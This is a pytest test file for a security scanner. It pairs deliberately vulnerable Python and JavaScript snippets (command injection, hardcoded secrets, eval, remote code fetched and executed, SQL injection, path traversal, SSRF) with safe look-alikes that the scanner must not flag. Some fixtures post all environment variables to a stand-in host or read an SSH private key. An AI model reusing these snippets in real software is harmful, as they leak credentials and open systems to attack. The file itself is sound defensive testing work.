"""What code does with secrets, shells, texts and addresses, in many idioms: the flaw, and what only looks like it."""

from __future__ import annotations

import pytest
from idioms import findings

_PLUGIN = '{"id": "com.example.a", "name": "A", "version": "1.0.0", "main": "%s", "permissions": %s}'


def _lines(rule: str, path: str, text: str, kind: str = "host") -> list[int]:
    return [line for _path, line in findings(rule, {path: text}, kind)]


def _marked(text: str) -> list[int]:
    return [number for number, line in enumerate(text.split("\n"), 1) if "<- here" in line]


FLAWS = [
    # shell texts
    ("SEC046", "a.js", 'const cp = require("child_process");\nmodule.exports = (dir) => cp.execSync(`du -s ${dir}`); // <- here'),
    ("SEC046", "a.ts", 'import { spawn } from "node:child_process";\nexport const run = (name: string) =>\n  spawn("sh", ["-c", `tar xf ${name}`]); // <- here'),
    ("SEC046", "a.ts", 'import * as cp from "node:child_process";\nexport class Git {\n  #root: string;\n  constructor(root: string) { this.#root = root; }\n  log(ref: string) {\n    const cmd = ["git", "-C", this.#root, "log", ref].join(" ");\n    return cp.execSync(cmd); // <- here\n  }\n}'),
    ("SEC046", "a.py", 'import subprocess as sp\n\ndef pack(plugin):\n    return sp.check_output("tar c %s" % plugin.folder, shell=True)  # <- here'),
    ("SEC046", "a.py", 'from os import popen\n\ndef ask(host):\n    return popen("ping -c1 " + host).read()  # <- here'),
    ("SEC046", "a.py", 'import asyncio\n\nasync def run(event):\n    name = event["name"]\n    proc = await asyncio.create_subprocess_shell(f"notify {name}")  # <- here\n    await proc.wait()'),
    ("SEC046", "a.py", 'import subprocess\n\ndef run(branch: str) -> None:\n    subprocess.run(["bash", "-lc", f"git checkout {branch}"], check=True)  # <- here'),
    ("SEC046", "a.js", 'import { exec } from "child_process";\nexport function hook(bus) {\n  bus.on("build", ({ target }) => {\n    exec("make " + target, (error) => bus.emit("built", { error })); // <- here\n  });\n}'),
    ("SEC046", "a.js", 'const { execSync } = require("child_process");\nfunction sh(command) {\n  return execSync(command);\n}\nexports.clone = (url) => sh(`git clone ${url}`); // <- here'),
    # programs
    ("SEC047", "a.py", 'import subprocess\n\nclass Hooks:\n    def __init__(self, config):\n        self._config = config\n\n    def fire(self):\n        subprocess.Popen(self._config["on_save"].split())  # <- here'),
    ("SEC047", "a.js", 'const { spawn } = require("child_process");\nexports.start = (manifest) => spawn(manifest.bin, ["--stdio"]); // <- here'),
    # secrets
    ("SEC040", "a.ts", 'export const client = connect({ url: "https://a.example", token: "9f8a7b6c5d4e3f2a1b0c" }); // <- here'),
    ("SEC040", "a.py", 'from dataclasses import dataclass\n\n@dataclass\nclass Settings:\n    host: str = "a.example"\n    api_key: str = "k3y-7d1f0a9b2c4e6f80"  # <- here'),
    ("SEC040", "a.js", 'fetch(url, { headers: { Authorization: "Bearer 8c1e7fa0d2b94c3fb5a6" } }); // <- here'),
    ("SEC040", "a.js", 'class A {\n  static #SECRET = "s3cr3t-Value-0x91"; // <- here\n}'),
    ("SEC040", "a.py", 'def connect(user, password="Sommer2024!"):  # <- here\n    return (user, password)'),
    ("SEC040", "a.py", 'import jwt\n\nSIGNING = "kestrel-lantern"  # <- here\n\ndef sign(data):\n    return jwt.encode(data, SIGNING, algorithm="HS256")'),
    ("SEC040", "a.js", 'if (req.headers["x-admin-token"] === "b7c91e0f5d3a48c2") grant(); // <- here'),
    ("SEC040", "a.ts", 'const url = "postgres://reg:wq8Zr1pL@db.example:5432/registry"; // <- here'),
    # code
    ("SEC048", "a.ts", 'export class Filter {\n  compile(expression: string) {\n    return new Function("row", `return (${expression})`); // <- here\n  }\n}'),
    ("SEC048", "a.py", 'def when(rule, scope):\n    return eval(rule["when"], {}, scope)  # <- here'),
    ("SEC048", "a.js", 'const vm = require("node:vm");\nmodule.exports = (bus) => bus.on("script", (msg) => vm.runInNewContext(msg.code, {})); // <- here'),
    ("SEC050", "a.js", 'export async function load(url) {\n  const code = await fetch(url).then((r) => r.text());\n  return new Function(code)(); // <- here\n}'),
    ("SEC050", "a.py", 'import urllib.request\n\ndef boot():\n    with urllib.request.urlopen("https://a.example/x.py") as reply:\n        exec(reply.read().decode())  # <- here'),
    ("SEC051", "a.js", 'const s = "ZXZhbA==";\nnew Function(atob(s))(); // <- here'),
    # modules
    ("SEC049", "a.py", 'from importlib import import_module\n\ndef on_request(request):\n    return import_module(request.json["handler"]).handle(request)  # <- here'),
    ("SEC049", "a.js", 'module.exports = (socket) => socket.on("message", (msg) => require(msg.module).run()); // <- here'),
    # html
    ("SEC052", "a.tsx", 'export const Note = ({ message }: { message: { html: string } }) => <p dangerouslySetInnerHTML={{ __html: message.html }} />; // <- here'),
    ("SEC052", "a.ts", 'export function show(panel: any, payload: any) {\n  panel.webview.html = `<h1>${payload.title}</h1>`; // <- here\n}'),
    ("SEC052", "a.js", 'export async function load(root) {\n  const reply = await fetch("https://a.example/news");\n  root.innerHTML = await reply.text(); // <- here\n}'),
    # data
    ("SEC053", "a.py", 'from pickle import loads as thaw\n\ndef restore(blob):\n    return thaw(blob)  # <- here'),
    ("SEC053", "a.py", 'import yaml\n\ndef read(text):\n    return yaml.load(text, Loader=yaml.FullLoader)  # <- here'),
    # sql
    ("SEC054", "a.py", 'async def find(pool, name):\n    return await pool.fetch("SELECT id FROM plugins WHERE name = \'%s\'" % name)  # <- here'),
    ("SEC054", "a.js", 'exports.remove = (db, id) => db.run(`DELETE FROM plugins WHERE id = \'${id}\'`); // <- here'),
    ("SEC054", "a.py", 'def find(cursor, term):\n    query = "SELECT * FROM plugins"\n    cursor.execute("SELECT * FROM plugins WHERE name LIKE \'%" + term + "%\'")  # <- here\n    return query'),
    # paths and addresses
    ("SEC055", "a.js", 'const fs = require("fs");\nconst path = require("path");\nmodule.exports = (app) => app.get("/asset/:name", (req, res) => {\n  fs.createReadStream(path.join("assets", req.params.name)).pipe(res); // <- here\n});'),
    ("SEC055", "a.ts", 'import { promises as fs } from "fs";\nexport function createFiles(root: string) {\n  return {\n    async write(name: string, text: string) {\n      await fs.writeFile(`${root}/${name}`, text); // <- here\n    },\n  };\n}'),
    ("SEC055", "a.py", 'import os\n\nclass Assets:\n    def __init__(self, root):\n        self.root = root\n\n    def load(self, filename):\n        with open(os.path.join(self.root, filename), "rb") as stream:  # <- here\n            return stream.read()'),
    ("SEC056", "a.js", 'exports.routes = (app) => app.post("/probe", async (req, res) => {\n  const answer = await fetch(req.body.url); // <- here\n  res.end(await answer.text());\n});'),
    ("SEC056", "a.py", 'import requests\n\ndef on_hook(message):\n    target = message["callback"]\n    requests.post(target, json={"ok": True}, timeout=3)  # <- here'),
    ("SEC056", "a.ts", 'export function createNetwork(id: string) {\n  return {\n    fetch: (url: string, init?: RequestInit) => fetch(url, init), // <- here\n  };\n}'),
    # the rest
    ("SEC057", "a.py", 'import httpx\n\nclient = httpx.AsyncClient(verify=False)  # <- here'),
    ("SEC057", "a.js", 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"; // <- here'),
    ("SEC058", "a.py", 'import aiohttp\n\nasync def beat():\n    async with aiohttp.ClientSession() as session:\n        await session.get("http://beat.example/a")  # <- here'),
    ("SEC059", "a.ts", 'import { Worker } from "node:worker_threads";\nexport const start = (plugin: { main: string }) =>\n  new Worker(plugin.main, { env: process.env }); // <- here'),
    ("SEC059", "a.py", 'import asyncio\nimport os\nimport sys\n\nasync def launch(extension):\n    return await asyncio.create_subprocess_exec(\n        sys.executable, extension.entry, env={**os.environ, "ID": extension.id}  # <- here\n    )'),
    ("SEC060", "a.py", 'import json\nimport os\n\nimport requests\n\ndef beat():\n    requests.post("https://a.example", data=json.dumps(dict(os.environ)), timeout=3)  # <- here'),
    ("SEC061", "a.js", 'function deepMerge(a, b) {\n  for (const k in b) {\n    if (typeof b[k] === "object") deepMerge(a[k], b[k]);\n    else a[k] = b[k]; // <- here\n  }\n  return a;\n}'),
    ("SEC062", "a.js", 'exports.routes = (app) => app.get("/find", (req, res) => res.json(list.filter((x) => new RegExp(req.query.q).test(x)))); // <- here'),
    ("SEC064", "a.py", 'import random\n\nclass Sessions:\n    def open(self):\n        self.session_id = "%032x" % random.getrandbits(128)  # <- here'),
    ("SEC065", "a.js", 'const crypto = require("crypto");\nexports.hashPassword = (text) => crypto.createHash("sha512").update(text).digest("hex"); // <- here'),
    ("SEC066", "a.py", 'from pathlib import Path\n\ndef open_up(folder: Path):\n    folder.chmod(0o777)  # <- here'),
    ("SEC067", "a.js", 'console.log("signing with", privateKey); // <- here'),
    ("SEC075", "a.py", 'from http.server import HTTPServer\n\ndef start(handler):\n    HTTPServer(("0.0.0.0", 8000), handler).serve_forever()  # <- here'),
    ("SEC076", "a.ts", 'export class Gate {\n  constructor(private readonly config: { bypassPermissions?: boolean }) {}\n  isAllowed(plugin: string): boolean {\n    if (this.config.bypassPermissions) { // <- here\n      return true;\n    }\n    return this.grants.has(plugin);\n  }\n}'),
    ("SEC077", "a.py", 'import os\n\ndef grab():\n    with open(os.path.expanduser("~/.ssh/id_ed25519")) as stream:  # <- here\n        return stream.read()'),
]  # fmt: skip

RIGHT = [
    ("SEC046", "a.js", 'const { execFileSync } = require("child_process");\nmodule.exports = (dir) => execFileSync("du", ["-s", dir]);'),
    ("SEC046", "a.ts", 'import { exec } from "node:child_process";\nconst VERSION = 3;\nexport const run = () => exec(`node --version ${VERSION}`);'),
    ("SEC046", "a.py", 'import subprocess\n\nMODES = {"fast": "-1", "small": "-9"}\n\ndef pack(mode):\n    subprocess.run(f"gzip {MODES[mode]} data.tar", shell=True, check=True)'),
    ("SEC046", "a.py", 'import shlex\nimport subprocess\n\ndef run(args):\n    line = " ".join(shlex.quote(a) for a in args)\n    subprocess.run(f"nice {line}", shell=True, check=True)'),
    ("SEC046", "a.ts", 'import { execSync } from "node:child_process";\nconst SAFE = /^[a-z0-9-]+$/;\nexport function checkout(branch: string) {\n  if (!SAFE.test(branch)) throw new Error("no such branch");\n  execSync(`git checkout ${branch}`);\n}'),
    ("SEC046", "a.js", 'const PATTERN = /a(b)/;\nmodule.exports = (text) => PATTERN.exec(`${text}!`);'),
    ("SEC046", "a.py", 'def run(cursor, name):\n    cursor.execute("SELECT 1")\n    return cursor.run(f"x {name}")'),
    ("SEC047", "a.js", 'const { spawn } = require("child_process");\nexports.start = (args) => spawn(process.execPath, args, { shell: false });'),
    ("SEC047", "a.py", 'import subprocess\n\nALLOWED = {"black", "ruff"}\n\ndef run(config):\n    tool = config["tool"]\n    if tool not in ALLOWED:\n        raise ValueError(tool)\n    subprocess.run([tool, "."], check=True)'),
    ("SEC040", "a.ts", 'const tokenUrl = "https://a.example/oauth/token/v2/9f8a7b6c5d4e";\nconst secretName = "projects/1/secrets/app-7f3b09c2";\nconst passwordField = "input[name=password1]";\nconst LABELS = { apiKey: "API key", password: "Password" };\nconst TOKEN_TYPES = { token: "Token", keyword: "keyword-2" };'),
    ("SEC040", "a.py", 'API_KEY = os.environ["API_KEY"]\nTOKEN = "${TOKEN}"\nPASSWORD = "changeme"\nsecret_ref = "vault:app/db#password1"\npassword = getpass("Password: ")\ntoken = "csrf_token"\nCACHE_KEY = "plugins:v2:0f8a7b6c5d4e3f2a"\nsha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"'),
    ("SEC040", "a.js", 'const kinds = { token: "identifier" };\nif (token === "function") next();\nexport const STORAGE_TOKEN = Symbol("storage");\nconst passwordHint = "at least 8 characters, 1 digit";\nconst key = "settings.theme2";'),
    ("SEC048", "a.py", 'import ast\nimport re\n\nRE = re.compile("a+")\n\ndef f(model, text):\n    model.eval()\n    return ast.literal_eval(text), compile("1 + 1", "x", "eval")'),
    ("SEC048", "a.js", 'setTimeout(() => run(name), 10);\nsetInterval(tick, 1000);\nsetTimeout(callbacks[name], 5);\nnew Function("return 1")();'),
    ("SEC049", "a.ts", 'export async function load(name: string, table: Map<string, () => Promise<unknown>>) {\n  const lazy = table.get(name);\n  return lazy ? lazy() : import("./fallback");\n}'),
    ("SEC052", "a.js", 'export function clear(root) {\n  root.innerHTML = "";\n  root.innerHTML = `<b>${COUNT}</b>`;\n}\nconst COUNT = 3;'),
    ("SEC052", "a.ts", 'import { escapeHtml } from "./escape";\nexport const show = (root: HTMLElement, name: string) => {\n  root.innerHTML = `<b>${escapeHtml(name)}</b>`;\n  root.textContent = `<b>${name}</b>`;\n};'),
    ("SEC053", "a.py", 'import json\nimport yaml\n\ndef read(text):\n    return json.loads(text), yaml.safe_load(text), yaml.load(text, Loader=yaml.CSafeLoader)'),
    ("SEC054", "a.ts", 'export const find = (db: any, ids: string[]) =>\n  db.query(`SELECT * FROM plugins WHERE id IN (${ids.map(() => "?").join(", ")})`, ids);'),
    ("SEC054", "a.py", 'def note(log, name):\n    log.info(f"select a name from {name}")\n    log.execute(f"please update {name} soon")'),
    ("SEC055", "a.ts", 'import { readdir, readFile } from "node:fs/promises";\nimport { join } from "node:path";\nexport async function scan(root: string) {\n  const found = [];\n  for (const name of await readdir(root)) found.push(await readFile(join(root, name, "plugin.json"), "utf8"));\n  return found;\n}'),
    ("SEC055", "a.py", 'import os\n\nclass Assets:\n    def __init__(self, root):\n        self.root = os.path.realpath(root)\n\n    def load(self, name):\n        path = os.path.realpath(os.path.join(self.root, name))\n        if os.path.commonpath([self.root, path]) != self.root:\n            raise PermissionError(name)\n        return open(path, "rb").read()'),
    ("SEC055", "a.ts", 'import { readFile } from "node:fs/promises";\nimport { join } from "node:path";\nconst NAME = /^[a-z][a-z0-9-]*$/;\nexport class Store {\n  constructor(private root: string) {}\n  async get(key: string) {\n    this.#check(key);\n    return readFile(join(this.root, `${key}.json`), "utf8");\n  }\n  #check(key: string) {\n    if (!NAME.test(key)) throw new Error(key);\n  }\n}'),
    ("SEC056", "a.ts", 'const BASE = "https://registry.example";\nexport const find = (id: string) => fetch(`${BASE}/plugins/${encodeURIComponent(id)}`);\nexport const page = (request: any) => fetch(`https://a.example/p/${request.query.page}`);'),
    ("SEC056", "a.py", 'import requests\n\nHOSTS = ("a.example",)\n\ndef on_hook(message):\n    target = message["callback"]\n    check_host(target, HOSTS)\n    requests.post(target, timeout=3)'),
    ("SEC057", "a.py", 'import requests\n\ndef run(checker, verify):\n    requests.get("https://a.example", verify=verify, timeout=3)\n    return checker.check(verify=False)'),
    ("SEC058", "a.js", 'const NS = "http://www.w3.org/1999/xhtml";\nfetch("http://127.0.0.1:3000/health");\ndocument.createElementNS(NS, "b");'),
    ("SEC059", "a.ts", 'import { fork } from "node:child_process";\nimport { scrub } from "./env";\nexport const start = (plugin: { main: string }) => fork(plugin.main, [], { env: scrub(process.env) });'),
    ("SEC059", "a.ts", 'import { execFile } from "node:child_process";\nexport const version = () => execFile("git", ["--version"], { env: process.env });'),
    ("SEC060", "a.js", 'logger.info("started", { mode: process.env.NODE_ENV, count: Object.keys(process.env).length });'),
    ("SEC061", "a.js", 'function count(words) {\n  const table = {};\n  for (const w of words) table[w] = (table[w] || 0) + 1;\n  return table;\n}\nfunction clone(o) {\n  const made = {};\n  for (const k of Object.keys(o)) made[k] = typeof o[k] === "object" ? clone(o[k]) : o[k];\n  return made;\n}'),
    ("SEC062", "a.py", 'import re\n\nPATTERNS = {"id": r"\\w+"}\n\ndef find(request, name):\n    return re.search(PATTERNS["id"], request.query["q"])'),
    ("SEC064", "a.js", 'const color = Math.random();\nconst delay = base * (1 + Math.random());\nconst tokens = pick(list, Math.floor(Math.random() * 3));'),
    ("SEC065", "a.py", 'import hashlib\n\ndef cache_name(url):\n    return hashlib.md5(url.encode()).hexdigest()'),
    ("SEC067", "a.ts", 'logger.info(`used ${usage.totalTokens} tokens`);\nlogger.debug("password changed for", user.name);\nconsole.log(token.type, keyword);\nlogger.info("token", mask(token));'),
    ("SEC075", "a.py", 'import socket\n\ndef free_port():\n    with socket.socket() as s:\n        s.bind(("", 0))\n        return s.getsockname()[1]'),
    ("SEC076", "a.ts", 'export function isAllowed(plugin: any, options: { skipCache: boolean }): boolean {\n  if (options.skipCache) return recompute(plugin);\n  if (plugin.disabled) return false;\n  return grants.has(plugin.id);\n}'),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "path", "text"), FLAWS)
def test_the_flaw_is_found_on_its_line(rule, path, text):
    assert _lines(rule, path, text) == _marked(text)


@pytest.mark.parametrize(("rule", "path", "text"), RIGHT)
def test_right_code_that_looks_like_it_is_left_alone(rule, path, text):
    assert _lines(rule, path, text) == []
